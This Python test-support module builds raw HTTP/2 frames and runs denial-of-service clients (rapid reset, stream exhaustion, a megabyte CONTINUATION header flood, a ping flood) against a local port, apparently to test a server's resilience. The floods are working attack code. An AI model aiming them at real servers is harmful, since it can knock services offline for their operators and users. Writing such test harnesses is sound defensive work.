"""Clients that mean harm, as frames of HTTP/2: `python -m tests.support.attacks NAME PORT COUNT`, until it is killed.

Each is a process of its own that gives way to others, as if it were another machine.
"""

import os
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
# GET http, from the table of HTTP/2; the path and the authority are written out.
GET, POST, HTTP = b"\x82", b"\x83", b"\x86"
LONGEST = 16_384
MEBIBYTE = 1024 * 1024
AT_ONCE = 100
STARTED = "started"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value: bytes) -> bytes:
    """A string of HPACK, shorter than 127 bytes."""
    return bytes((len(value),)) + value


def request(method: bytes, path: bytes) -> bytes:
    return method + HTTP + b"\x04" + text(path) + b"\x01" + text(b"edge")


def connected(port: int) -> socket.socket:
    made = socket.create_connection(("127.0.0.1", port), timeout=5)
    made.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return made


def read_what_came(made: socket.socket) -> None:
    """Throw away what was answered; raises OSError when the other side has left."""
    made.setblocking(False)
    try:
        while True:
            if not made.recv(65_536):
                raise ConnectionResetError
    except BlockingIOError:
        made.settimeout(5)


def rapid_reset(port: int, _count: int) -> None:
    """Ask, and take it back at once, as fast as it goes."""
    with connected(port) as made:
        stream, block = 1, request(GET, b"/dashboard")
        while True:
            parts = []
            for _number in range(AT_ONCE):
                parts += [frame(HEADERS, END_HEADERS | END_STREAM, stream, block), frame(RESET, 0, stream, CANCEL)]
                stream += 2
            made.sendall(b"".join(parts))
            read_what_came(made)


def many_streams(port: int, count: int) -> None:
    """Begin requests that never end."""
    open_ones, block = [], request(POST, b"/events")
    try:
        for first in range(0, count, 1000):
            made = connected(port)
            open_ones.append(made)
            made.sendall(
                b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * each, block) for each in range(min(1000, count - first)))
            )
        while True:
            time.sleep(0.2)
            for made in open_ones:
                read_what_came(made)
    finally:
        for made in open_ones:
            made.close()


def much_metadata(port: int, _count: int) -> None:
    """A megabyte of metadata to one request."""
    field = b"\x00" + text(b"x-much") + text(b"m" * 100)
    block = request(GET, b"/dashboard") + field * (MEBIBYTE // len(field))
    with connected(port) as made:
        parts = [block[start : start + LONGEST] for start in range(0, len(block), LONGEST)]
        made.sendall(frame(HEADERS, END_STREAM, 1, parts[0]))
        for number, part in enumerate(parts[1:], 2):
            made.sendall(frame(CONTINUATION, END_HEADERS if number == len(parts) else 0, 1, part))
            read_what_came(made)
        time.sleep(0.05)
        read_what_came(made)


def ping_flood(port: int, _count: int) -> None:
    """Ask whether somebody is there, and never listen."""
    pings = frame(PING, 0, 0, b"somebody") * AT_ONCE
    with connected(port) as made:
        while True:
            made.sendall(pings)


ATTACKS: dict[str, Callable[[int, int], None]] = {
    attack.__name__: attack for attack in (rapid_reset, many_streams, much_metadata, ping_flood)
}


@contextmanager
def attacking(name: str, port: int, count: int) -> Iterator[None]:
    """The attack goes on for the length of the block."""
    command = [sys.executable, "-m", "tests.support.attacks", name, str(port), str(count)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as attacker:
        try:
            assert attacker.stdout is not None
            assert attacker.stdout.readline().strip() == STARTED
            yield
            assert attacker.poll() is None, "the attack ended by itself"
        finally:
            attacker.kill()


def main(name: str, port: int, count: int) -> None:
    os.nice(19)
    print(STARTED, flush=True)
    while True:
        try:
            ATTACKS[name](port, count)
        except OSError:
            # Sent away; it comes back.
            time.sleep(0.001)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
